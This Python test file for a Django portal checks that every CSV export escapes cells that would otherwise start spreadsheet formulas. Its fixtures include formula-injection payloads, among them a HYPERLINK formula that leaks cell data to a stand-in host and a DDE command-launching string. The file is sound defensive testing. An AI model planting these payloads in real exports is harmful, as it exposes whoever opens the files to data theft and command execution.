"""No CSV cell a spreadsheet would run as a formula: one writer, every CSV route, every formula start.

CSV routes are found in the URLconf (a view marked by ``portal.csv_export.csv_view``,
or any route whose pattern or name says csv — which must then be marked), so a
new export is covered without editing the test. A source scan keeps every
other module off ``csv.writer``.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from portal.csv_export import FORMULA_STARTS, safe_cell
from tests.security.test_authorization_matrix import all_routes

pytestmark = pytest.mark.django_db

FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


def csv_routes():
    """(route key, resolved view) of every route that answers CSV."""
    from django.utils.module_loading import import_string

    found, unmarked = [], []
    for route in all_routes():
        if route.is_admin:
            continue
        try:
            view = import_string(route.lookup)
        except ImportError:
            view = None
        says_csv = "csv" in route.pattern.lower() or "csv" in route.key.lower()
        if getattr(view, "csv_export", False):
            found.append(route.key)
        elif says_csv:
            unmarked.append(route.key)
    assert not unmarked, f"CSV routes whose view is not marked with portal.csv_export.csv_view: {unmarked}"
    return found


@pytest.mark.parametrize("title", FORMULA_TITLES)
def test_safe_cell_neutralises_every_formula_start(title):
    assert safe_cell(title) == "'" + title
    assert safe_cell("路灯不亮 =1") == "路灯不亮 =1"
    assert safe_cell(-1.5) == -1.5, "numbers stay numbers"


def _seed_overdue_cases_with_formula_titles():
    from city.models import Category
    from feedback.models import Kind
    from feedback.services import submission_create
    from routing.services import submission_route

    long_ago = timezone.now() - timedelta(days=20)
    category = Category.objects.get(code="city.garbage")
    for title in FORMULA_TITLES:
        data = {"kind": Kind.COMPLAINT, "category": category, "title": title, "text": f"{title} 垃圾没人清运"}
        case, _secret, _created = submission_create(data=data, now=long_ago)
        submission_route(submission_id=case.pk, now=long_ago)


def test_there_is_a_csv_route_to_check():
    assert "oversight:cases_csv" in csv_routes()


@pytest.mark.parametrize("route_key", csv_routes())
def test_no_cell_of_a_csv_export_starts_a_formula(city, client, route_key):
    from accounts.models import User

    _seed_overdue_cases_with_formula_titles()
    client.force_login(User.objects.get(username="supervisor"))
    response = client.get(reverse(route_key))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, f"{route_key}: cells a spreadsheet would run: {dangerous}"
    for title in FORMULA_TITLES:
        # Intake strips a title's surrounding whitespace: "\t=1+1" arrives as "=1+1" (still a formula).
        assert "'" + title.strip() in cells, f"{route_key}: {title!r} not exported as text"


def test_no_module_but_the_one_writer_writes_csv():
    base = Path(settings.BASE_DIR)
    writer_module = base / "portal" / "csv_export.py"
    offenders = []
    for path in base.rglob("*.py"):
        parts = path.relative_to(base).parts
        if parts[0] in {".venv", "tests", "node_modules"} or path == writer_module:
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(base)))
    assert not offenders, f"CSV written without portal.csv_export: {offenders}"
